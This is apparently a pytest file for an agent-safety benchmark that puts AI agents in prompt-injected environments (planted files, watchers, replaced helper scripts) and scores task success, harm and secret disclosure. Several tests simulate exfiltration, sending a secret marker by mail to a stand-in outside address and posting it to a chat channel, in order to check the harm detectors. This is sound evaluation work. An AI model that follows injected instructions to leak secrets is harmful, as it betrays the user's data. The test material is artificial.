"""APEX-Harm through the suite interface: instances from cached worlds, benign and attacked environments,
scoring, and an oracle episode that records the same over the direct and the MCP transport."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import anyio
import pytest

from evoaudit import config as config_mod
from evoaudit.config import suite_view
from evoaudit.errors import AuditError
from evoaudit.models.base import ChatRequest, ChatResponse
from evoaudit.records import Call, Instance, Message, ToolCall
from evoaudit.suite.apex.adapter import ApexSuite
from evoaudit.suite.apex.attacks import attack_set as attack_sets
from evoaudit.suite.apex.attacks.attacker import make_attacker
from evoaudit.suite.apex.commands import apex_build
from evoaudit.suite.apex.environment import attack_set
from evoaudit.suite.apex.judging import success
from evoaudit.suite.apex.runtime import tools
from evoaudit.suite.apex.worlds import goals
from evoaudit.suite.apex.worlds.generate import TASK_IDS, build_task
from evoaudit.suite.interface import AuditSuite

SCALE = 0.05
MCP_TASKS = ("ib_lbo_sensitivity", "law_notice_deadline", "mc_utilisation_dashboard")


def _cfg(out: Path, **apex) -> config_mod.Config:
    return config_mod.from_dict({"suite": {"apex": {"scale": SCALE, "out": str(out), **apex}}}, "test config")


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> tuple[config_mod.Config, list[Instance]]:
    out = tmp_path_factory.mktemp("apex")
    apex_build(_cfg(out, variants=["v0", "v1"]).suite.apex)  # v1 for the evolution-extension test
    cfg = _cfg(out)
    return cfg, ApexSuite().build_instances(suite_view(cfg))


def _by_family(instances: list[Instance], family: str) -> Instance:
    return next(i for i in instances if i.family == family)


def test_suite_meets_the_audit_suite_protocol():
    assert isinstance(ApexSuite(), AuditSuite)


def test_one_instance_per_task_with_rubric_predicate_and_oracle_ground_truth(built):
    cfg, instances = built
    assert [i.instance_id for i in instances] == [f"{t}.v0" for t in TASK_IDS]
    for inst in instances:
        task = build_task(inst.family, "v0", cfg.suite.apex.seed, SCALE)
        assert inst.suite == "apex" and inst.role == "endpoint" and inst.split == "unseen"
        assert inst.ground_truth == task.oracle
        assert inst.predicate["kind"] == "apex_rubric"
        assert [r["verifier_id"] for r in inst.predicate["rubric"]] == [
            r.verifier_id for r in task.record.rubric
        ]
        ref = json.loads(inst.environment_template)
        assert ref["task_id"] == inst.family and ref["world_id"] == task.record.world_id


def test_further_variants_are_acquisition_and_make_their_family_seen(built):
    cfg = _cfg(built[0].suite.apex.out, variants=["v0", "v1"])
    instances = ApexSuite().build_instances(suite_view(cfg))
    roles = {(i.variant, i.role, i.split) for i in instances}
    assert roles == {("v0", "endpoint", "seen"), ("v1", "acquisition", "seen")}


def test_oracle_plan_scores_one_and_no_op_scores_zero_on_every_task(built):
    cfg, instances = built
    suite = ApexSuite()
    for inst in instances:
        env = suite.build_environment(inst, None, {})
        pre = suite.copy_environment(env)
        for call in inst.ground_truth:
            assert suite.run_call(env, call)[1] is None
        assert suite.task_score(inst, "", pre, env) == 1.0 and suite.check_utility(inst, "", pre, env)
        assert suite.task_score(inst, "", pre, pre) == 0.0
        assert not any(suite.harm(pre, env, inst.ground_truth).values())


def test_final_message_is_the_answer_when_submit_answer_is_not_called(built):
    _, instances = built
    suite = ApexSuite()
    inst = _by_family(instances, "ib_comps_median")
    env = suite.build_environment(inst, None, {})
    pre = suite.copy_environment(env)
    answer = inst.ground_truth[-1].args["answer"]
    for call in inst.ground_truth[:-1]:
        suite.run_call(env, call)
    assert suite.task_score(inst, answer, pre, env) == 1.0
    assert suite.task_score(inst, "I could not find it.", pre, env) < 1.0


def test_a_changed_world_is_refused_by_the_instance_that_pinned_the_old_one(built, tmp_path):
    cfg, _ = built
    shutil.copytree(cfg.suite.apex.out, tmp_path / "apex")
    inst = _by_family(ApexSuite().build_instances(suite_view(_cfg(tmp_path / "apex"))), "mc_churn_rate")
    world = tmp_path / "apex" / "v0" / "worlds" / f"{json.loads(inst.environment_template)['world_id']}.zip"
    world.write_bytes(world.read_bytes() + b"\0")
    with pytest.raises(AuditError, match="not the file the instance table pinned"):
        ApexSuite().build_environment(inst, None, {})


# --- attacks ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacked(built):
    """The frozen attack set for one task, built by the attack generator into the suite's cache."""
    cfg, instances = built
    path = _freeze_attacks(cfg, "law_nda_terms")
    return cfg, _by_family(instances, "law_nda_terms"), attack_set(path)


def _freeze_attacks(cfg, task_id: str) -> Path:
    path = Path(cfg.suite.apex.out) / "attacks.json"
    attack_sets.build_attack_set(
        path,
        [build_task(task_id, "v0", cfg.suite.apex.seed, SCALE)],
        make_attacker(cfg.suite.apex.attacker),
        attack_sets.AttackOptions.from_config(cfg.suite.apex.attacks),
        cfg.suite.apex.seed,
    )
    return path


def test_attacks_are_the_configured_part_of_the_frozen_set_for_the_instances_task(attacked, built):
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    assert frozen and suite.attacks(list(frozen), inst) == sorted(frozen)
    assert suite.attacks(["c1", "c4perm"], inst) == sorted(
        a for a in frozen if a.startswith(("c1.", "c4perm."))
    )
    assert suite.attacks(["c4"], inst) == sorted(a for a in frozen if a.startswith("c4"))
    assert suite.attacks(list(frozen), _by_family(built[1], "ib_wacc")) == []


def test_attacked_environment_holds_the_payload_and_benign_one_does_not(attacked):
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    benign = suite.build_environment(inst, None, {})
    static = next(a for a in frozen.values() if a.category == 1 and a.payload[0].target.startswith("file:"))
    env = suite.build_environment(inst, static.attack_id, suite.injections(cfg.suite, inst, static.attack_id))
    path = static.payload[0].target.removeprefix("file:")
    assert env.files[path].data == static.payload[0].data
    assert benign.files.get(path) is None or benign.files[path].data != static.payload[0].data
    dynamic = next(a for a in frozen.values() if a.watcher is not None)
    assert len(suite.build_environment(inst, dynamic.attack_id, {}).observers) == 1
    with pytest.raises(ValueError, match="not the frozen attack's content"):
        suite.build_environment(inst, static.attack_id, {"file:x.txt": "something else"})


def test_a_category_5_episode_gets_the_clean_prompt_and_a_replaced_helper_nothing_added(attacked):
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    benign = suite.build_environment(inst, None, {})
    c5 = [a for a in frozen.values() if a.category == 5]
    assert len(c5) == 2
    for a in c5:
        assert suite.prompt_for(inst, a.attack_id).encode() == inst.prompt.encode()
        env = suite.build_environment(inst, a.attack_id, suite.injections(cfg.suite, inst, a.attack_id))
        path = a.targets[0]
        assert path in inst.prompt and env.files[path].data != benign.files[path].data
        assert set(env.files) == set(benign.files)  # the helper replaced in place, no file added


def test_exposure_applies_to_categories_one_to_four_only(attacked):
    _, _, frozen = attacked
    suite = ApexSuite()
    assert suite.exposure_applies(None) is False
    for attack_id, inst in frozen.items():
        assert suite.exposure_applies(attack_id) is (inst.category <= 4)


def test_reading_the_injected_file_exposes_and_sending_a_secret_out_is_harm_and_disclosure(attacked):
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    static = next(a for a in frozen.values() if a.category == 1 and a.payload[0].target.startswith("file:"))
    env = suite.build_environment(inst, static.attack_id, {})
    pre = suite.copy_environment(env)
    path = static.payload[0].target.removeprefix("file:")
    messages = _messages([Call(function="read_file", args={"path": path})], env, suite)
    assert suite.exposed(messages, {}, static.attack_id) is True
    assert suite.exposed(_messages([], env, suite), {}, static.attack_id) is False
    secret = pre.secrets[0].marker
    suite.run_call(
        env, Call(function="send_mail", args={"to": ["drop@outside.example"], "subject": "x", "body": secret})
    )
    harm = suite.harm(pre, env, inst.ground_truth)
    assert harm["unauthorised_external_mail"] and suite.disclosure(static.attack_id, pre, env)
    assert not suite.disclosure(static.attack_id, pre, pre)


def test_goal_is_reached_when_its_secret_lands_at_its_destination(attacked):
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    attack = next(
        a
        for a in frozen.values()
        if goals.goal(a.goal_id).content == "secret" and goals.goal(a.goal_id).destination == "internal_chat"
    )
    env = suite.build_environment(inst, attack.attack_id, {})
    pre = suite.copy_environment(env)
    for call in inst.ground_truth:
        suite.run_call(env, call)
    assert suite.check_goal(attack.attack_id, "", pre, env) is False
    marker = success.secret_marker(pre, goals.goal(attack.goal_id).secret_kind)
    channel = attack.destination["address"]
    suite.run_call(
        env, Call(function="post_message", args={"channel": channel, "text": f"as asked: {marker}"})
    )
    decision = suite.goal_decision(attack.attack_id, "", pre, env)
    assert decision.value is True and decision.decided_by == "rule"
    assert suite.harm(pre, env, inst.ground_truth)["unauthorised_internal_chat"]
    assert suite.task_score(inst, "", pre, env) == 1.0  # the user's task was still done


def test_a_replaced_helper_run_by_the_oracle_plan_is_harm_not_authorised_work(built, tmp_path):
    # The oracle plan of mc_pricing_elasticity runs the helper that category 5 replaces: the authorised
    # state must come from the benign world, or the attacker's write would count as the user's task.
    shutil.copytree(built[0].suite.apex.out, tmp_path / "apex")
    cfg = _cfg(tmp_path / "apex", allow_unsandboxed=True)
    _freeze_attacks(cfg, "mc_pricing_elasticity")
    suite = ApexSuite()
    inst = _by_family(suite.build_instances(suite_view(cfg)), "mc_pricing_elasticity")
    reached = 0
    for attack in suite.attacks(["c5"], inst):
        env = suite.build_environment(inst, attack, {})
        pre = suite.copy_environment(env)
        session = suite.open_tools(env, cfg.suite)
        try:
            for call in inst.ground_truth:
                session.call(call.function, call.args)
        finally:
            session.close()
        if suite.check_goal(attack, "", pre, env):
            reached += 1
            goal = goals.goal(suite.resolve_attack(inst, attack).goal_id)
            assert suite.harm(pre, env, inst.ground_truth)["unauthorised_" + goal.destination] is True
    assert reached, "no replaced helper reached its goal when the oracle plan ran it"
    benign = suite.build_environment(inst, None, {})
    benign_pre = suite.copy_environment(benign)
    for call in inst.ground_truth:
        suite.run_call(benign, call)
    assert not any(suite.harm(benign_pre, benign, inst.ground_truth).values())


def _messages(plan: list[Call], env, suite) -> list[Message]:
    out = []
    for k, call in enumerate(plan):
        text, _ = suite.run_call(env, call)
        out.append(
            Message(
                role="assistant",
                tool_calls=[ToolCall(id=f"c{k}", name=call.function, arguments=json.dumps(call.args))],
            )
        )
        out.append(Message(role="tool", tool_call_id=f"c{k}", name=call.function, content=text))
    return out


# --- our loop over direct and MCP ---------------------------------------------------------------------------


class OracleBackend:
    """A model that makes the oracle plan's calls, one per turn, as native tool calls, then answers."""

    def __init__(self, plan: list[Call]) -> None:
        self.plan = plan
        self.requests: list[ChatRequest] = []

    def fingerprint(self) -> dict:
        return {"backend": "oracle-script"}

    async def complete(self, request: ChatRequest) -> ChatResponse:
        self.requests.append(request)
        k = len(self.requests) - 1
        if k < len(self.plan):
            call = self.plan[k]
            tc = ToolCall(id=f"call_{k}", name=call.function, arguments=json.dumps(call.args, sort_keys=True))
            return ChatResponse(message=Message(role="assistant", tool_calls=[tc]))
        return ChatResponse(message=Message(role="assistant", content="Done."))


def _session_episode(suite, inst, cfg, attack: str | None = None) -> dict:
    """The oracle episode through the suite's ToolSession: what the model would see and what was recorded."""
    env = suite.build_environment(inst, attack, {})
    pre = suite.copy_environment(env)
    session = suite.open_tools(env, cfg.suite)
    try:
        schemas = session.schemas()
        seen = [session.call(c.function, c.args) for c in inst.ground_truth]
    finally:
        session.close()
    return {
        "schemas": schemas,
        "seen": seen,
        "records": [vars(c) for c in env.calls],
        "observer_log": env.observer_log,
        "state": suite.state_sha256(env),
        "score": suite.task_score(inst, "", pre, env),
    }


def test_oracle_session_over_mcp_equals_direct_and_scores_one(built):
    cfg, instances = built
    suite = ApexSuite()
    mcp_cfg = _cfg(Path(cfg.suite.apex.out), transport="mcp")
    for family in MCP_TASKS:
        inst = _by_family(instances, family)
        direct = _session_episode(suite, inst, cfg)
        served = _session_episode(suite, inst, mcp_cfg)
        assert served == direct
        assert direct["score"] == 1.0 and len(direct["records"]) == len(inst.ground_truth)
        assert {s["function"]["name"] for s in direct["schemas"]} == set(tools.TOOLS)


def test_a_dynamic_attack_records_the_same_over_mcp_as_direct(attacked):
    # The watcher is a hook in the tool layer, so it acts the same whichever transport carried the call.
    cfg, inst, frozen = attacked
    suite = ApexSuite()
    mcp_cfg = _cfg(Path(cfg.suite.apex.out), transport="mcp")
    for attack in suite.attacks(["c3"], inst):
        direct = _session_episode(suite, inst, cfg, attack)
        assert direct["observer_log"], f"{attack}: the oracle's read did not fire the watcher"
        assert _session_episode(suite, inst, mcp_cfg, attack) == direct


def test_agent_loop_records_the_same_episode_over_direct_and_mcp(built):
    cfg, instances = built
    suite = ApexSuite()
    mcp_cfg = _cfg(Path(cfg.suite.apex.out), transport="mcp")
    for family in MCP_TASKS:
        inst = _by_family(instances, family)
        runs = {name: _loop_episode(suite, inst, c) for name, c in (("direct", cfg), ("mcp", mcp_cfg))}
        assert runs["mcp"] == runs["direct"]
        assert runs["direct"][4] == 1.0


def _loop_episode(suite, inst: Instance, cfg) -> tuple:
    from evoaudit.agent import loop

    env = suite.build_environment(inst, None, {})
    pre = suite.copy_environment(env)
    session = suite.open_tools(env, cfg.suite)
    opening = [
        Message(role="system", content="You are an analyst."),
        Message(role="user", content=inst.prompt),
    ]
    backend = OracleBackend(inst.ground_truth)

    async def run():
        return await loop.run_episode(backend, opening, session, max_steps=50, seed=0)

    try:
        ep = anyio.run(run)
    finally:
        session.close()
    return (
        [m.model_dump() for m in ep.messages],
        [c.model_dump() for c in ep.calls],
        suite.state_sha256(env),
        [vars(r) for r in env.calls],
        suite.task_score(inst, ep.final_output, pre, env),
    )
